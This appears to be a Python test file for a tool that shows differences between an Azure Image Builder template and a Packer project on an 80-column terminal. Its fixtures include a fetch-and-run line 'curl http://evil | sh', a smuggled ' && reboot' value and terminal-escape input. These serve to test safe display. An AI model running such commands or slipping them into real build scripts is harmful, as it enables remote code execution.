"""A comparison as text: what a person reads on a terminal of 80 columns."""

from __future__ import annotations

import time

import pytest
from compared import before_migrating, beside_a_project, hostile, many
from hypothesis import example, given
from hypothesis import strategies as st

from aib2packer.comparison.faces.differing_text import MOST_LINES, changed_lines, differing_lines, parted
from aib2packer.comparison.faces.text_face import Tone, as_text
from aib2packer.comparison.model import Comparison, Row, Shown, Verdict
from aib2packer.diagnostics.model import visible

BESIDE = """\
template.json ↔ web  made by aib2packer 0.1.0 --with tags, 2 files edited since

vmProfile
  ~ vmProfile.vmSize  Standard_D2s_v3 → Standard_D4s_v3
      template.json:9  image.pkr.hcl:3  the project was edited

customize
  ~ customize[1].inline (install)  1 line added
      template.json:18  image.pkr.hcl:31  the project was edited
      | echo "home is ${HOME}"
      + curl http://evil | sh
  + provisioner[3] (shell)    before [2] containers
      image.pkr.hcl:35  the project was edited
      + id
  - customize[2] (containers)  curl -fsSL https://example.com/docker.sh | sh
      template.json:20  the template changed
  ↕ customize[3] (harden)     was 4th, is 1st
      template.json:21  image.pkr.hcl:20  the project was edited

distribute
  ~ distribute[0].replicationRegions  eastus2 is not there
      template.json:24  image.pkr.hcl:11  both changed
      westus2, eastus2 → westus2
  ? image_version             var.image_version has no value here
      image.pkr.hcl:10
      0.0.1 → var.image_version

accepted (1)
  ~ source.sku: The gallery has generation 1 only.
      server → server-gen1

1 accepted difference no longer there: remove from the list
  source.version

of other images, not compared
  source.azure-arm.other

3 same, 3 differ, 1 missing, 1 extra, 1 moved, 1 cannot be told, 1 accepted
"""
ALONE = """\
template.json

optimize
  - optimize.vmBoot.state  dropped A2P609                        template.json:7
      Image Builder: Image Builder prepares the image so that VMs from it boot
      faster.
      Project: Packer has no counterpart; VMs boot as from any image.

template
  ~ buildTimeoutInMinutes  approximate A2P602   template.json:6  image.pkr.hcl:5
      Image Builder: The whole build ends after 120 minutes.
      Project: Each long call to Azure ends after 120 minutes.

the same by other means (1)
  = customize[0].sourceUri (motd)             template.json:14  image.pkr.hcl:25
      Image Builder: The build VM downloads the file.
      Project: fetch.sh downloads the file before the build.

As in Image Builder: template 1, vmProfile 2, source 1, customize 3, distribute
1

7 exact, 2 equivalent, 1 approximate, 1 dropped
"""


def differing(before: str, after: str) -> Comparison:
    row = Row(key="vmProfile.x", section="vmProfile", packer=Shown(before), project=Shown(after), verdict=Verdict.DIFFERS)
    return Comparison(template="t.json", project="web", rows=(row,))


def test_differences_beside_a_project() -> None:
    assert as_text(beside_a_project()) == BESIDE


def test_what_changes_before_migrating() -> None:
    assert as_text(before_migrating()) == ALONE
    (exact,) = (line.split() for line in as_text(before_migrating(), everything=True).splitlines() if "= location" in line)
    assert exact == ["=", "location", "westus2", "template.json:4", "image.pkr.hcl:2"]


def test_everything_has_the_same_rows_and_those_that_are_the_same() -> None:
    text = as_text(beside_a_project(), everything=True)
    assert "  = vmProfile.osDiskSizeGB  64                 template.json:10  image.pkr.hcl:4\n" in text
    assert {" ".join(line.split()) for line in BESIDE.splitlines()} < {" ".join(line.split()) for line in text.splitlines()}
    assert "=" not in BESIDE


def test_nothing_to_tell_is_told_in_one_line() -> None:
    row = Row(key="location", section="template", verdict=Verdict.SAME)
    assert as_text(Comparison(template="t.json", project="web", rows=(row,))) == "t.json ↔ web\n\n1 same\n"


def test_paint_gets_the_tones_and_changes_nothing_else() -> None:
    tones: set[Tone] = set()

    def paint(text: str, tone: Tone) -> str:
        tones.add(tone)
        return f"\x1b[1m{text}\x1b[0m" if text.strip() else text

    painted = as_text(beside_a_project(), paint=paint)
    assert painted.replace("\x1b[1m", "").replace("\x1b[0m", "") == BESIDE
    assert tones == {*Tone}


@pytest.mark.parametrize("everything", [False, True])
def test_text_that_means_harm_steers_no_terminal_and_breaks_no_line(everything: bool) -> None:
    text = as_text(hostile(), everything=everything)
    assert all(visible(line) == line and len(line) <= 80 for line in text.splitlines())
    assert "␛[2J␀⟦U+202E⟧" in text


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("x" * 200 + "a", "x" * 200 + "b"),
        ("x" * 200, "x" * 200 + " && reboot"),
        ("64", "64 "),
        ("\x1b", "␛"),
        ("a b", "a\u200bb"),
        ("a\nb", "a\r\nb"),
        ("a\nb", "a\nb "),
        ("a\nb", "a\nb\n"),
        ("a\n" + "x" * 300 + "1" + "x" * 300, "a\n" + "x" * 300 + "2" + "x" * 300),
        ("", "x"),
    ],
)
def test_different_values_never_look_alike(before: str, after: str) -> None:
    shown = as_text(differing(before, after))
    removed, added = ([line.strip()[2:] for line in shown.splitlines() if line.strip()[:1] == sign] for sign in "-+")
    assert removed != added or "→" in shown
    if "→" in shown:
        old, new = shown.splitlines()[3].split("x  ", 1)[1].split(" → ")
        assert old != new


@given(st.text(max_size=200), st.text(max_size=200), st.integers(9, 80))
def test_parted_values_never_look_alike(before: str, after: str, width: int) -> None:
    if before != after:
        old, new = parted(before, after, width)
        assert old != new
        assert len(old) <= width
        assert len(new) <= width


@example("a ", "a·")
@example("a\n" * 1_001, "b\n" * 1_001)
@given(st.text("ab \t\r\n\x1b", max_size=30), st.text("ab \t\r\n\x1b", max_size=30))
def test_differing_lines_show_what_differs(before: str, after: str) -> None:
    lines = differing_lines(before, after, 20)
    removed, added = ([text for sign, text in lines if sign == each] for each in "-+")
    assert (removed != added) == (before != after)
    assert bool(changed_lines(before, after)) == (before != after)


def test_a_long_text_is_cut_and_told_so() -> None:
    lines = differing_lines("\n".join(map(str, range(500))), "\n".join("x" for _ in range(500)), 40)
    assert len(lines) == MOST_LINES + 1
    assert lines[-1] == ("⋮", "more lines follow")


def test_thousands_of_steps_take_no_time() -> None:
    comparison = many(10_000)
    start = time.process_time()
    text = as_text(comparison)
    assert time.process_time() - start < 5
    assert text.count("  ~ ") == 1_000
